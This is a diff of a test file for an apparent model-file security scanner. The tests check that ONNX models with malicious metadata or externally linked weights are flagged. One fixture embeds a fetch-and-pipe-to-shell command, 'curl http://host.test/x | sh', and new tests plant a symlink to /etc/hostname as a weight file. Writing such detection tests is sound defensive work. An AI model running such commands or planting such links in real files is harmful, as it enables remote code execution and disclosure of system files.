@@ -1,6 +1,11 @@
+import { link, mkdtemp, rm, symlink, writeFile } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
 import fc from 'fast-check';
 import { describe, expect, test } from 'vitest';
+import { openFolder } from '../../sources/index.ts';
 import { latin1, mutations, protoBytes as len, protoInt as int, zipBytes } from '../../weights/testing/index.ts';
+import { scanFile } from '../index.ts';
 import { flatBuffer, json, scanned, text } from '../testing/made.ts';
 
 const bytes = (...fields: number[][]): Uint8Array => Uint8Array.from(fields.flat());
@@ -93,6 +98,25 @@ describe('an ONNX model', () => {
   test('with a command among its metadata is suspicious', async () => {
     const file = bytes(int(1, 9), len(7, node('Relu')), len(14, len(1, 'setup'), len(2, 'curl http://host.test/x | sh')));
     expect((await scanned({ 'm.onnx': file })).rules).toContain('metadata-code');
+  });
+});
+
+describe('an ONNX model on a disk', () => {
+  test.each([
+    ['a link out of the folder', async (folder: string) => symlink('/etc/hostname', join(folder, 'w.bin')), 'malicious'],
+    ['a second name of another file', async (folder: string) => link(join(folder, 'm.onnx'), join(folder, 'w.bin')), 'suspicious'],
+    ['a file of its own', async (folder: string) => writeFile(join(folder, 'w.bin'), new Uint8Array(8)), 'clean'],
+  ] as const)('that reads values from %s is judged', async (_, make, verdict) => {
+    const folder = await mkdtemp(join(tmpdir(), 'heirloom-'));
+    try {
+      await writeFile(join(folder, 'm.onnx'), onnx(len(5, external('w.bin'))));
+      await make(folder);
+      const tree = await openFolder(folder);
+      expect((await scanFile(tree, 'm.onnx')).verdict).toBe(verdict);
+      await tree.close();
+    } finally {
+      await rm(folder, { recursive: true });
+    }
   });
 });
 
